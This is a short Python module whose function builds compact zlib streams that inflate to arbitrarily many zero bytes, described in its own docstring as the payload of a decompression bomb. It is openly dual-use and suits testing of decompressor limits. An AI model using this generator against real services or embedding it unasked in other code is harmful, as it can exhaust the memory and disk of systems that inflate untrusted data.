"""Compressed zeros of any length in little memory: the payload of every decompression bomb."""

from __future__ import annotations

import struct
import zlib


def zlib_zeros(n: int, unit: int = 1 << 20) -> bytes:
    """A zlib stream that inflates to n zero bytes, built without holding n bytes: 1 MiB of zeros
    deflated with a full flush gives a byte-aligned block that repeats (the dictionary is reset),
    so the stream is header + that block k times + the remainder + an empty final block +
    Adler-32 (for zeros: a = 1, b = n mod 65521). About 1 KB per MiB."""
    co = zlib.compressobj(9)
    first = co.compress(bytes(unit)) + co.flush(zlib.Z_FULL_FLUSH)  # "78 da" + block
    block = co.compress(bytes(unit)) + co.flush(zlib.Z_FULL_FLUSH)
    assert first[2:] == block, "deflate of zeros is not periodic after a full flush"
    k, rest = divmod(n, unit)
    tail = b""
    if rest:
        co2 = zlib.compressobj(9)
        tail = (co2.compress(bytes(rest)) + co2.flush(zlib.Z_FULL_FLUSH))[2:]
    adler = ((n % 65521) << 16) | 1
    return first[:2] + block * k + tail + b"\x03\x00" + struct.pack(">I", adler)
